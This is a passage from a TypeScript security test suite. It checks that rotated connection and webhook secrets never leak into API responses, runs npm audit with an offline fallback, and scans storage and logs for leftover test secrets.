    expect(patched.text).not.toContain(rotated);
    const tested = await stack.api.post(`/connections/${fixtures.connectionId}/test`);
    expect(tested.status).toBe(200);
    for (const path of ['/connections', `/connections/${fixtures.connectionId}`, '/audit?top=1000', `/exports/${fixtures.exportId}/runs`])
      expect((await stack.api.get(path)).status).toBe(200);
  });

  it('a webhook signing secret, made and rotated, is in no answer but those two', async () => {
    const rotatedAnswer = await fetch(`${stack.apiUrl}/webhooks/${fixtures.webhookId}/rotate-secret`, {
      method: 'POST',
      headers: { authorization: `Bearer ${await stack.tokenFor('admin', 'alice')}` },
    });
    expect(rotatedAnswer.status).toBe(200);
    expect(rotatedAnswer.headers.get('cache-control')).toBe('no-store');
    const rotated = ((await rotatedAnswer.json()) as { secret: string }).secret;
    secretsUsed.push(rotated, rotated.slice('whsec_'.length));
    // Signing with it: a test event, received and verified by the local receiver.
    stack.webhookReceiver.setSecret(rotated);
    const queued = await stack.api.post(`/webhooks/${fixtures.webhookId}/test`);
    expect(queued.status).toBe(202);
    const received = await eventually(
      async () => stack.webhookReceiver.deliveries.find((delivery) => delivery.webhookId === queued.body.deliveryId),
      { timeoutMs: 30_000, what: 'the test delivery' },
    );
    expect(received.verified).toBe(true);
    for (const path of ['/webhooks', `/webhooks/${fixtures.webhookId}`, `/webhooks/${fixtures.webhookId}/deliveries`]) {
      const response = await stack.api.get(path);
      expect(response.status).toBe(200);
      expect(response.text).not.toContain(rotated.slice('whsec_'.length));
    }
  });

  it('npm audit of the production dependencies reports no high or critical advisory', { timeout: 120_000 }, async () => {
    const output = await run('npm', ['audit', '--omit=dev', '--audit-level=high', '--json']);
    let report: any;
    try {
      report = JSON.parse(output);
    } catch {
      report = { message: output.slice(0, 200) || 'no output', error: {} };
    }
    if (report.error || report.statusCode) {
      // The registry here is a read-only mirror: the advisories endpoint answers 405. Fall back on
      // the advisories this suite knows, against every installed version of the production tree.
      const installed = installedVersions(JSON.parse(await run('npm', ['ls', '--omit=dev', '--all', '--json'])));
      const hits = affectedInstalls(installed);
      // The check itself can fail: an affected version is found.
      expect(affectedInstalls(new Map([['protobufjs', new Set(['7.2.4', '7.6.6'])]]))).toEqual(
        expect.arrayContaining([expect.stringMatching(/^protobufjs@7\.2\.4: /)]),
      );
      expect(affectedInstalls(new Map([['protobufjs', new Set(['7.6.6'])]]))).toEqual([]);
      recordResult('security', 'npm-audit', {
        passed: false,
        notRun: true,
        title: 'npm audit --omit=dev --audit-level=high',
        checked: `production dependencies (${installed.size} packages) against the registry’s advisories`,
        figures: `could not run here: ${String(report.message ?? report.error?.summary).slice(0, 160)}. Fallback: ${KNOWN_ADVISORIES.length} known high/critical advisories and compromised releases of ${new Set(KNOWN_ADVISORIES.map((advisory) => advisory.name)).size} packages (test/reliability/support/knownAdvisories.ts) against every installed version: ${hits.length ? `AFFECTED ${hits.join(', ')}` : 'none affects an installed version'}`,
      });
      expect(hits).toEqual([]);
      return;
    }
    const counts = report.metadata?.vulnerabilities ?? {};
    const high = (counts.high ?? 0) + (counts.critical ?? 0);
    recordResult('security', 'npm-audit', {
      passed: high === 0,
      title: 'npm audit --omit=dev --audit-level=high',
      checked: 'production dependencies against the registry’s advisories',
      figures: JSON.stringify(counts),
    });
    expect(high).toBe(0);
  });

  it('left no secret in any table row, queue message, blob, API response, audit entry or log line', { timeout: 300_000 }, async () => {
    const audit = await stack.api.get('/audit?top=1000');
    expect(audit.status).toBe(200);
    const scan = await scanForSecrets(stack, secretsUsed);
    recordResult('security', 'secret-scan-security', {
      passed: scan.findings.length === 0,
      title: 'Secrets nowhere (security suite)',
      checked: 'every secret value set in this suite (connections, rotations), in every form (plain, JSON-escaped, base64)',
      secrets: secretsUsed.length,
      ...scan,
      findings: scan.findings.slice(0, 20),
    });
    expect(scan.findings).toEqual([]);
    expect(scan.tableRows).toBeGreaterThan(0);
  });
});
